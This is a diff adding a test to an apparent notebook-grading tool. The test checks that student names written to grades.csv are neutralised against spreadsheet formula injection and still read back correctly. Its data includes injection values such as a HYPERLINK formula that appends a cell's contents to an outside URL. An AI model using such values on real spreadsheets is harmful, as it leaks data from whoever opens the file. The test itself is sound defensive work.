@@ -246,6 +246,28 @@ def test_a_symbolic_link_handed_in_is_never_followed(tmp_path):
     assert any(f"{LAB}.ipynb is a symbolic link" in note for note in result.notes), result.notes
 
 
+def test_no_cell_of_grades_csv_starts_like_a_formula(tmp_path):
+    """A student's display name or file name that reaches grades.csv never runs as a spreadsheet formula, and reads
+    back as it was: --resume skips the student, the LMS export finds them, a re-run replaces their row."""
+    from grading.grade import Result, graded_students, write_grades
+    from grading.lms import read_scores
+    from grading.spreadsheet import FORMULA_START
+
+    lab = load_lab(LAB)
+    names = ['=HYPERLINK("http://example.org/?"&A1)', "+1", "-jo", "@sum", "alice"]
+    results = [Result(name, LAB, 1.0, lab.max_score, {}, "ok", [f"{name}.ipynb was not UTF-8; read as cp1252"])
+               for name in names]
+    path = tmp_path / "grades.csv"
+    write_grades(path, lab, results)
+    write_grades(path, lab, results[:2])  # a re-run of two of them
+    with open(path, newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    assert len(rows) == 1 + len(names)
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
+    assert graded_students(path, LAB) == set(names)
+    assert read_scores(path, LAB) == dict.fromkeys(names, "1")
+
+
 def test_grading_refuses_without_a_sandbox(tmp_path):
     """No bubblewrap on PATH: the CLI says why and stops, unless told --unsafe-no-sandbox."""
     _write(tmp_path / "submitted", "alice", _solution())
